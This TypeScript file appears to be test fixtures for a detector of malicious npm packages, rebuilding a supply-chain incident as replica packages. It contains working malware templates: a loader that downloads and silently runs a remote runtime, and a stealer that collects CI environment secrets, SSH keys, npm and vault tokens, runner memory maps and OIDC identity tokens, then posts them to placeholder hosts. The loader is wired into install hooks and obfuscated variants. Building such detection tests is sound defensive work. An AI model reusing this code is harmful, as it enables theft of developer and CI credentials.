import { bundle } from '../bulk';
import { casesOf, type Facts } from '../case';
import { charCodes, oneLine, renamedLocals, stringArray } from '../disguise/javascript';
import { npm } from '../packages';

const loader = (host: string, script: string) => String.raw`
const cp = require('child_process');
const fs = require('fs');
const path = require('path');
const os = require('os');
const https = require('https');
const home = path.join(os.tmpdir(), '.rt');
function fetchTo(url, file, done) {
  https.get(url, function (response) {
    if (response.headers.location) return fetchTo(response.headers.location, file, done);
    const out = fs.createWriteStream(file, { mode: 0o755 });
    response.pipe(out);
    out.on('finish', done);
  }).on('error', function () { process.exit(0); });
}
fs.mkdirSync(home, { recursive: true });
const bun = path.join(home, process.platform === 'win32' ? 'bun.exe' : 'bun');
fetchTo('https://${host}/bun/v1.3.9/' + process.platform + '-' + process.arch, bun, function () {
  cp.spawn(bun, [path.join(__dirname, '${script}')], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
});
`;

/** Reads the CI's own identity out of its environment, and publishes with it. */
const stealer = (host: string) => String.raw`
(async () => {
  const fs = require('fs');
  const os = require('os');
  const secrets = {};
  for (const [name, value] of Object.entries(process.env)) {
    if (/TOKEN|SECRET|PASSWORD|_KEY|AWS_|AZURE_|GCP_/i.test(name)) secrets[name] = value;
  }
  if (process.platform === 'linux') {
    for (const id of fs.readdirSync('/proc').filter((each) => /^\d+$/.test(each))) {
      try {
        const command = fs.readFileSync('/proc/' + id + '/cmdline', 'utf8');
        if (command.includes('Runner.Worker')) secrets.memory = fs.readFileSync('/proc/' + id + '/maps', 'utf8');
      } catch (denied) {}
    }
  }
  const files = ['/.npmrc', '/.ssh/id_ed25519', '/.config/gh/hosts.yml', '/.vault-token'];
  for (const file of files) {
    try { secrets[file] = fs.readFileSync(os.homedir() + file, 'utf8'); } catch (absent) {}
  }
  const identity = await fetch(process.env.ACTIONS_ID_TOKEN_REQUEST_URL || 'https://idp.${host}/token', { headers: { Authorization: 'bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } });
  await fetch('https://filev2.${host}/upload', { method: 'POST', body: JSON.stringify({ secrets: secrets, identity: await identity.json() }) });
})().catch(() => {});
`;

const FACTS: Facts = {
  now: '2026-05-11T20:00:00Z',
  publishedAt: '2026-05-11T19:22:00Z',
  firstPublishedAt: '2023-01-10T00:00:00Z',
  previousPublishedAt: '2026-05-08T00:00:00Z',
  publisher: 'ci',
  previousPublisher: 'ci',
  provenance: { now: true, before: true, builder: 'github-hosted', builderBefore: 'github-hosted' },
};
const HOST = 'session-relay.invalid';

export const tanstack = casesOf({
  id: 'tanstack',
  incident: 'tanstack',
  kind: 'install-hook',
  seen: 'a prepare hook fetches another runtime and runs a new file of several MB with it that reads secrets and the identity of the CI; provenance is valid',
  replica: {
    sample: npm('@robin/router-core', '1.169.5', () => ({
      about: 'Routes with types.',
      manifest: { scripts: { prepare: 'node router_init.js', preinstall: 'node router_init.js' } },
      files: {
        'router_init.js': stringArray(loader(HOST, 'router_runtime.js'), 'router'),
        'router_runtime.js': `${bundle('router', 2_000_000)}${stringArray(stealer(HOST), 'runtime')}\n`,
      },
    })),
    previous: npm('@robin/router-core', '1.169.4', { about: 'Routes with types.' }),
    facts: FACTS,
  },
  renamed: npm('query-sync-client', '5.90.3', () => ({
    about: 'Keeps queries in step.',
    manifest: { scripts: { preinstall: 'node build/init.cjs' } },
    files: {
      'build/init.cjs': renamedLocals(loader('rt-download.invalid', 'core.js'), 'query'),
      'build/core.js': `${bundle('query', 1_100_000)}${oneLine(renamedLocals(stealer('sync-relay.invalid'), 'sync'))}\n`,
    },
  })),
  reObfuscated: npm('@robin/router-core', '1.169.6', () => ({
    about: 'Routes with types.',
    manifest: { scripts: { preinstall: 'node router_init.js' } },
    files: {
      'router_init.js': charCodes(loader(HOST, 'router_runtime.js'), 'router'),
      'router_runtime.js': `${bundle('router', 1_200_000)}${charCodes(stealer(HOST), 'runtime')}\n`,
    },
  })),
  otherStage: {
    kind: 'import-time',
    seen: 'the ES module entry fetches another runtime and runs a file of several MB with it that reads secrets',
    sample: npm('@robin/router-core', '1.169.7', () => ({
      about: 'Routes with types.',
      esm: (honest) => `import './init.cjs';\n${honest}`,
      files: {
        'init.cjs': loader(HOST, 'router_runtime.js'),
        'router_runtime.js': `${bundle('router', 1_200_000)}${stringArray(stealer(HOST), 'runtime')}\n`,
      },
    })),
  },
});
